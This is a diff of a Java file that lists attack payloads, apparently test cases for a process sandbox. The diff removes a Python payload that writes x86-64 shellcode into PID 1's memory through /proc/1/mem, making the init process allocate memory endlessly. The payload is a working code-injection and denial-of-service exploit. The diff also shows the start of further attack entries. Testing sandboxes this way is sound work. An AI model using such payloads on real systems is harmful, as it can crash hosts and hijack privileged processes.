@@ -4,23 +4,6 @@ import java.util.List;
 
 /** A program that does harm where nothing contains it; its first argument is an outside file, its second a port. */
 record Attack(String name, List<String> words) {
-    /** Makes the first process behind the walls, which waits for the others, take memory; for x86-64. */
-    static final Attack FIRST_PROCESS = python("first process", """
-            import os, struct, time
-            program = open("/dev/.airlock/program", "rb").read()
-            waiting = program.find(b"\\x39\\xd8\\x75")
-            size = struct.pack("<Q", 1 << 30)
-            mapping = (b"\\x31\\xff\\x48\\xbe" + size + b"\\xba\\x03\\0\\0\\0\\x41\\xba\\x22\\x80\\0\\0\\x49\\xc7\\xc0"
-                    + b"\\xff\\xff\\xff\\xff\\x4d\\x31\\xc9\\xb8\\x09\\0\\0\\0\\x0f\\x05\\xb8\\x22\\0\\0\\0\\x0f\\x05\\xeb\\xf7")
-            os.pwrite(os.open("/proc/1/mem", os.O_RDWR), mapping, 0x400000 + waiting)
-            if os.fork() == 0:
-                if os.fork() == 0:
-                    time.sleep(0.2)
-                os._exit(0)
-            os.wait()
-            time.sleep(30)
-            """);
-
     static final List<Attack> ALL = List.of(
             python("home", """
                     import os, sys
